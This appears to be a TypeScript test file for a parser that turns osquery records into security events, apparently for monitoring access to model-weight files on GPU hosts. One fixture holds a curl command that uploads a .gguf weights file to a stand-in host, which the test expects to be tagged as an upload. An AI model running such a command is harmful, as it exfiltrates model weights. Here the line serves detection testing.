import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import fc from "fast-check";
import { eventsOf, onlyEvent, readWith, whyNot } from "../testing/read.ts";
import { noSamples, samples } from "../testing/recordings.ts";
import { osquery } from "./osquery.ts";

const result = (columns: unknown, over: object = {}) => ({
  name: "pack_models_process_events",
  hostIdentifier: "gpu-3",
  unixTime: 1795426320,
  action: "added",
  columns,
  ...over,
});

test("a started program, an opened file and a connection", () => {
  const launch = onlyEvent(
    osquery,
    result({
      path: "/usr/bin/curl",
      cmdline: "curl -T '/srv/models/a b.gguf' https://x.example",
      cwd: "/",
      uid: "1002",
      pid: "7",
      time: "1795426319",
    }),
  );
  assert.deepEqual(
    [launch.principal, launch.operation, launch.artifact, Object(launch.unmapped).tool_kind],
    ["uid:1002", "launch", "file:/srv/models/a b.gguf", "upload"],
  );
  assert.equal(launch.time, 1795426319000);
  const open = onlyEvent(osquery, result({ target_path: "/srv/models/w.gguf", action: "OPENED", uid: "1002" }));
  assert.deepEqual([open.operation, open.artifact, open.weights], ["open", "file:/srv/models/w.gguf", true]);
  const connect = onlyEvent(osquery, result({ remote_address: "203.0.113.9", remote_port: "443", pid: "7" }));
  assert.deepEqual(
    [connect.operation, connect.dst_endpoint, connect.principal],
    ["connect", { ip: "203.0.113.9", port: 443 }, "host:gpu-3"],
  );
});

test("a snapshot is its rows, what went and what says nothing is skipped", () => {
  const rows = [
    { target_path: "/a", action: "CREATED" },
    { target_path: "/b", action: "DELETED" },
  ];
  assert.deepEqual(
    eventsOf(osquery, result(undefined, { snapshot: rows })).map((it) => it.operation),
    ["write", "delete"],
  );
  assert.match(whyNot(osquery, result({}, { action: "removed" })), /went/);
  assert.match(whyNot(osquery, result({ version: "10" })), /says nothing of/);
  assert.match(whyNot(osquery, result("x")), /^columns: /);
  assert.match(whyNot(osquery, result({ cmdline: "x" }, { unixTime: "soon" })), /^unixTime: /);
  fc.assert(
    fc.property(
      fc.jsonValue(),
      (it) =>
        typeof readWith(osquery, result({ cmdline: it, target_path: it, remote_address: it, path: it })).ok ===
        "boolean",
    ),
  );
});

test("hand-shaped records of others are events or say why not", { skip: noSamples }, () => {
  const rows = readFileSync(join(samples, "panther/Osquery.Differential.ndjson"), "utf8").trim().split("\n");
  for (const it of rows) assert.ok(whyNot(osquery, JSON.parse(it).log).length > 0);
});
